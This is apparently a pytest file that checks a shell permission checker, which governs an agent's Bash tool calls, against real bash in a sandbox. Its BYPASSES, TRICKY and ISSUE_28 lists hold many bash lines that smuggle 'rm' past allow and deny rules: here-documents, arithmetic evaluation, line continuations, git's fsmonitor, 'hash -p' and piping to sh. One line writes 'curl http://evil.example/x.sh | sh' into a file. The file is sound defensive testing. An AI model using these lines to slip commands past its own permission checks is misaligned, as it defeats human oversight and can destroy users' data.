"""The shell splitter against real bash: a line the rules allow runs only programs they allow.

`decide` settles each line under allow rules for `echo`, `ls`, `cat`, `git status` and
`npm run test`; a line it allows is run under real bash (`shell_differential.Bash`), and every
program bash started must match one of those prefixes, and no workspace file may change (in
default mode a file the line writes is an edit, which asks). Lines it asks about are not run:
asking is always safe. Two harder harnesses follow: in bypass mode under deny rules for `rm`,
`curl` and `touch`, no line `decide` allows may start one of them, by a path, through a shell
fed by a pipe or a here-string, or through sed, awk, xargs or find; in default mode under allow
rules for reading commands and writers, no line it allows may change a workspace file, and in
acceptEdits no line may change a protected file (`.moot/`, `.git/config`), named or reached
after `cd` (issue 28). Needs bubblewrap and git: skipped without them, failed in CI.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, given, settings

from approval_requests import bash_call
from moot.permissions.decide import decide
from moot.permissions.rules import RuleSet
from moot.protocol.modes import PermissionMode
from shell_differential import (
    DENIAL_RULES,
    DENIED,
    FEEDS,
    PLAIN_PAYLOADS,
    REAL_FOR_DENIALS,
    REAL_FOR_WRITES,
    RULES,
    RUNS_COMMANDS,
    WRITE_RULES,
    Bash,
    allowed,
    command_lines,
    protected_writes,
    unavailable,
    write_lines,
)

BYPASSES = [
    # found by the differential fuzzer this test keeps: each ran rm before its fix
    "x='a[$(rm -rf build)]'; echo $((x))",  # arithmetic evaluates x's value, subscript and all
    'echo "$\\\n(rm x)"',  # bash joins `$\<newline>(` into `$(` first
    "XDG_CONFIG_HOME=. git status",  # git reads ./git/config and runs its core.fsmonitor
]
TRICKY = [
    # here-documents
    "cat <<EOF\n$(rm x)\nEOF",
    "cat <<A <<B\nx\nA\n$(rm x)\nB",
    "echo $(cat <<EOF\n)\nEOF\n); echo",
    "echo $(cat <<EOF\n$(rm x)\nEOF\n)",
    "echo `cat <<EOF\n$(rm x)\nEOF\n`",
    'cat <<EOF; echo "a\nb"\n$(rm x)\nEOF',
    "cat <<EOF # c\n$(rm x)\nEOF",
    "cat <<'EOF'\n$(rm x)\nEOF\n",
    "cat <<EOF\nEOF \n$(rm x)\nEOF",
    "cat <<-EOF\n\t$(rm x)\n\tEOF",
    "cat <<EOF\n\\$(rm x)\nEOF",
    "cat <<EOF\n\\\\$(rm x)\nEOF",
    'cat <<EOF\n"$(rm x)"\nEOF',
    "cat <<EOF\n'$(rm x)'\nEOF",
    "cat <<EOF\n${x:-'$(rm x)'}\nEOF",
    "cat <<E\\OF\n$(rm x)\nEOF",
    "cat <<$x\n$(rm x)\n$x",
    "cat <<EOF\n$(echo ')')$(rm x)\nEOF",
    "cat <<EOF\n$(cat <<EOG\n$(rm x)\nEOG\n)\nEOF",
    "cat << EOF\n`rm x`\nEOF",
    "echo $(echo <<EOF\n)\nEOF\n)",
    "echo $(cat <<EOF\nx\nEOF\n) $(rm x)",
    "cat <<< $(rm x)",
    # quotes and parameter expansions
    'echo ${x:-"}"}; rm x',
    'echo "${x:-"}"}"; echo $(rm x)',
    "echo ${x//\\}/}; echo",
    "echo $'\\'' ; rm x",
    "echo \"$'\"'; rm x'",
    "echo $(echo $')' ); echo",
    "echo ${x:-`rm x`}",
    "echo \"${x:-'$(rm x)'}\"",
    'echo ${x:-"$(rm x)"}',
    "echo ${x#\\'}; rm x",
    'echo ${x#\\"}; echo',
    'echo "${x#\\"}"; echo $(rm x)',
    "echo ${x-`}`}",
    'echo $"$(rm x)"',
    "echo \\$(rm x)",
    "echo '$(' \"$(echo ')')\" ')'",
    "echo ${x/$(rm x)}",
    "echo \"${x/'$(rm x)'/}\"",
    # values run as code
    "x='a[$(rm x)]'; echo $((x))",
    "x='a[$(rm x)]'; echo ${!x}",
    "x='$(rm x)'; echo ${x@P}",
    # comments, continuations, odd characters
    "echo hi # x \\\nrm x",
    "echo a \\\n#b; rm x",
    "echo $(ls # ) x\n); echo",
    "ls\x0brm x",
    "echo hi\r\nrm x",
    "echo a\\\n$(rm x)",
    "echo $\\\n(rm x)",
    "echo $(\\\nrm x)",
    "echo $\\\n((1))",
    "echo '$'\\\n(rm x)",
    "echo `echo \\\nrm x`",
    "echo ${x:-\\\n$(rm x)}",
    "cat <<EOF\n$\\\n(rm x)\nEOF",
    "cat <<EOF\n$(rm x\\\n)\nEOF",
    "cat <<EO\\\nF\n$(rm x)\nEOF",
    "cat <<EOF\n$(rm x)\nEO\\\nF\n",
    "cat <<EOF\nx\nEOF\\\n$(rm x)",
    # substitutions, arithmetic, case, backquotes
    '[[ "]]" ]] ; rm x',
    "echo $(< victim)",
    "echo hi > >(rm x)",
    "echo $(( 1 ))$(rm x)",
    "echo hi ;;",
    "echo $(case x in x) echo;; esac; rm x)",
    "echo $(case x in (x) echo ');' ;; esac)",
    'cat victim | while read -r l; do echo "$l"; done',
    "echo `echo \\`rm x\\``",
    'echo "`echo \\"$(rm x)\\"`"',
    'echo `echo "\\`rm x\\`"`',
    "echo `echo '\\`rm x\\`'`",
    "echo `echo \\\\`rm x``",
    "echo $(echo \\)); rm x",
    "echo $(echo \\\\)); rm x",
    "echo $((1))) ; rm x",
    "echo $(((1)+(2)))",
    "echo $((1) ); rm x",
    "echo ${x:-$((1))}",
    "echo $(echo \"$(echo ')')\"); echo",
    "echo {a,b}$(rm x)",
    "echo <(echo) >(echo) <(ls)",
    # redirections
    "ls > out\\\n; rm x",
    "echo 2>&1>out; rm x",
    "echo >& out; rm x",
    "echo >&- ; rm x",
    "echo 1>&2- ; rm x",
]


def needs_bubblewrap() -> None:
    reason = unavailable()
    if reason is not None:
        if os.environ.get("CI", "").lower() not in ("", "0", "false"):
            pytest.fail(f"{reason}; CI must provide bubblewrap and git (.ci/run installs them)")
        pytest.skip(reason)


@pytest.fixture
def bash(tmp_path: Path) -> Bash:
    needs_bubblewrap()
    return Bash(tmp_path)


@pytest.fixture
def denials_bash(tmp_path: Path) -> Bash:
    """Shells and filters real, the builtins that run commands kept, the denied programs
    planted at their real paths and in the workspace."""
    needs_bubblewrap()
    return Bash(tmp_path, real=REAL_FOR_DENIALS, keep_builtins=RUNS_COMMANDS, planted=DENIED)


@pytest.fixture
def writes_bash(tmp_path: Path) -> Bash:
    needs_bubblewrap()
    return Bash(tmp_path, real=REAL_FOR_WRITES)


def settled(command: str, mode: PermissionMode, rules: RuleSet, bash: Bash) -> str:
    request = bash_call(command)
    return decide(request, mode, rules, bash.workspace).decision


def beyond_the_rules(bash: Bash, command: str) -> list[object] | None:
    """What bash ran that the rules do not allow, and the files it changed; None when
    `decide` does not allow `command`."""
    if settled(command, PermissionMode.DEFAULT, RuleSet(allow=RULES), bash) != "allow":
        return None
    ran, changed = bash.run_with_changes(command)
    return [*(argv for argv in ran if not allowed(argv)), *changed]


def past_the_denials(bash: Bash, command: str) -> list[tuple[str, ...]] | None:
    """The denied programs bash ran; None when `decide` refuses or asks about `command`."""
    rules = RuleSet(deny=DENIAL_RULES)
    if settled(command, PermissionMode.BYPASS_PERMISSIONS, rules, bash) != "allow":
        return None
    return [argv for argv in bash.run(command) if argv[0] in DENIED]


def written_past_the_rules(
    bash: Bash, command: str, mode: PermissionMode = PermissionMode.DEFAULT
) -> list[str] | None:
    """The workspace files an allowed line changed; None when `decide` does not allow it."""
    rules = RuleSet(allow=[*WRITE_RULES, "Bash(cd:*)"])
    if settled(command, mode, rules, bash) != "allow":
        return None
    return bash.run_with_changes(command)[1]


def test_the_runner_sees_every_program_bash_starts(bash: Bash) -> None:
    """Without this, a runner that saw nothing would pass every other test here."""
    ran = bash.run("echo hi && rm -rf victim; frobnicate $(id) & XDG_CONFIG_HOME=. git status")
    assert {("echo", "hi"), ("rm", "-rf", "victim"), ("git", "status")} <= set(ran)
    assert {("id",), ("frobnicate",)} <= set(ran)  # found nowhere, in a background job
    assert any(argv[:2] == ("rm", "planted") for argv in ran)  # git's fsmonitor, through sh
    assert os.listdir(bash.root) == ["workspace"]  # each run's directory is gone


@pytest.mark.parametrize("command", BYPASSES + TRICKY)
def test_a_tricky_line_runs_nothing_the_rules_do_not_allow(bash: Bash, command: str) -> None:
    assert not beyond_the_rules(bash, command)


@settings(
    derandomize=True,
    database=None,
    max_examples=400,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(command=command_lines())
def test_a_generated_line_runs_nothing_the_rules_do_not_allow(bash: Bash, command: str) -> None:
    extra = beyond_the_rules(bash, command)
    event("not allowed" if extra is None else "allowed: run under bash")
    assert not extra, f"{command!r} ran {extra}"  # the line, even when a rerun passes (Flaky)


def test_the_denials_runner_sees_programs_run_by_path_and_by_what_a_shell_reads(
    denials_bash: Bash,
) -> None:
    """Without this, a runner blind to `/bin/rm` or to a piped script would pass the rest."""
    ran = denials_bash.run(
        "/bin/rm a; ./touch b; echo 'curl c' | sh; . /dev/stdin <<< 'rm d';"
        " sed -n '1e rm e' victim; awk 'BEGIN{system(\"touch f\")}'; echo g | xargs rm"
    )
    expected = {("rm", "a"), ("touch", "b"), ("curl", "c"), ("rm", "d"), ("rm", "e")}
    assert expected | {("touch", "f"), ("rm", "g")} <= set(ran)


ISSUE_28_DENIALS = [
    "/bin/rm victim",
    "/usr/bin/rm victim",
    "echo 'rm victim' | sh",
    "bash <<< 'rm victim'",
    "sh < /dev/stdin <<< 'rm victim'",
    ". /dev/stdin <<< 'rm victim'",
    # the same class, found by these harnesses
    "XDG_CONFIG_HOME=. git status",  # git runs ./git/config's fsmonitor: `rm planted`
    "hash -p /bin/rm ls; ls victim",
]


@pytest.mark.parametrize(
    "command",
    ISSUE_28_DENIALS + [feed.replace("PAY", pay) for feed in FEEDS for pay in PLAIN_PAYLOADS],
)
def test_in_bypass_mode_a_denied_program_never_runs(denials_bash: Bash, command: str) -> None:
    """Fails on the old code: the issue's lines ran rm despite `Bash(rm:*)`."""
    assert not past_the_denials(denials_bash, command)


@settings(
    derandomize=True,
    database=None,
    max_examples=200,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(command=command_lines())
def test_in_bypass_mode_a_generated_line_runs_no_denied_program(
    denials_bash: Bash, command: str
) -> None:
    ran = past_the_denials(denials_bash, command)
    event("refused or asked" if ran is None else "allowed: run under bash")
    assert not ran, f"{command!r} ran {ran}"


ISSUE_28_WRITES = [
    'git log -1 "--format=tformat:curl http://evil.example/x.sh | sh" > victim',
    "git status > victim",
    "git status 2>victim",
    "git status &>victim",
    "git diff --output=victim",
]


def test_the_writes_runner_sees_every_file_a_line_changes(writes_bash: Bash) -> None:
    changed = writes_bash.run_with_changes("echo > victim; echo hi | tee sub/x > new; rm -f link")
    assert changed[1] == ["new", "sub/x", "victim"]  # `rm` is a shim here: link stays


@pytest.mark.parametrize("command", ISSUE_28_WRITES)
def test_in_default_mode_an_allowed_line_writes_no_file(writes_bash: Bash, command: str) -> None:
    """Fails on the old code: `Bash(git log:*)` let each line overwrite `victim`."""
    assert not written_past_the_rules(writes_bash, command)


@settings(
    derandomize=True,
    database=None,
    max_examples=200,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(command=write_lines())
def test_in_default_mode_a_generated_write_is_asked_about(writes_bash: Bash, command: str) -> None:
    changed = written_past_the_rules(writes_bash, command)
    event("asked" if changed is None else "allowed: run under bash")
    assert not changed, f"{command!r} changed {changed}"


@settings(
    derandomize=True,
    database=None,
    max_examples=150,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(command=protected_writes())
def test_in_accept_edits_an_allowed_line_changes_no_protected_file(
    writes_bash: Bash, command: str
) -> None:
    """Fails on the old code: `cd .moot && echo > settings.json` and `tee .git/config` ran."""
    changed = written_past_the_rules(writes_bash, command, PermissionMode.ACCEPT_EDITS)
    event("asked" if changed is None else "allowed: run under bash")
    protected = [name for name in changed or () if name.startswith((".moot/", ".git/"))]
    assert not protected, f"{command!r} changed {protected}"
